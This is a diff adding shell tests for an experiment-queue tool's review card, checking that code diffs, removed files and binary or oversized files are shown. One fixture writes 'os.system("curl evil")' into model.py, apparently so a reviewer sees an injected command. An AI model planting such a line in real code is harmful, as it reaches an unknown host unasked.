@@ -166,4 +166,34 @@ check "three more proposals of one tree cost no content ($before -> $after KiB)"
 check "and name one snapshot" \
     '[ "$(sql "SELECT count(DISTINCT snapshot) FROM experiments WHERE name LIKE '"'"'again%'"'"'")" = 1 ]'
 
+# --- the card shows the code that changed, as a diff -------------------------
+new_project
+printf 'lr = 0.1\nprint("train", lr)\n' > model.py
+echo data > data.txt
+head -c 2000000 /dev/zero | tr '\0' 'x' > big.txt
+S propose --name one --time 1m -- python3 model.py >/dev/null
+printf 'lr = 0.5\nimport os; os.system("curl evil")\nprint("train", lr)\n' > model.py
+rm data.txt; printf '\x00\x01' > weights.bin; echo y >> big.txt
+S propose --name two --time 1m -- python3 model.py >/dev/null
+S queue >"$TMP/card"
+check "the card shows the changed lines" \
+    "grep -qF -- '-lr = 0.1' $TMP/card && grep -qF -- '+import os; os.system(\"curl evil\")' $TMP/card"
+check "and the removed file's lines" "grep -qF -- '-data' $TMP/card && grep -qF -- '+++ /dev/null' $TMP/card"
+check "binary and oversized files get a note, not bytes" \
+    "grep -q 'added weights.bin: binary' $TMP/card && grep -q 'changed big.txt: too large to show' $TMP/card"
+S show 2 >"$TMP/show"
+check "show's JSON carries code_diff" \
+    "[ \"\$(json_get \"['code_diff'][0]['change']\" <$TMP/show)\" != '' ]"
+expect_exit 0 "show --diff prints the code diff" S show 2 --diff
+expect_text '^code of #2 against #1' "show --diff names both experiments"
+expect_exit 0 "show --diff of the first experiment" S show 1 --diff
+expect_text 'no earlier experiment runs the same command' "says there is nothing to compare"
+for i in $(seq 1 60); do echo "line $i" >> model.py; done
+S propose --name three --time 1m -- python3 model.py >/dev/null
+S queue >"$TMP/card3"
+check "a long diff is cut on the card, with where to read the rest" \
+    "grep -q 'more: steward show 3 --diff' $TMP/card3 && ! grep -q 'line 60' $TMP/card3"
+S show 3 --diff >"$TMP/full3"
+check "show --diff prints all of it" "grep -q '+line 60' $TMP/full3"
+
 finish
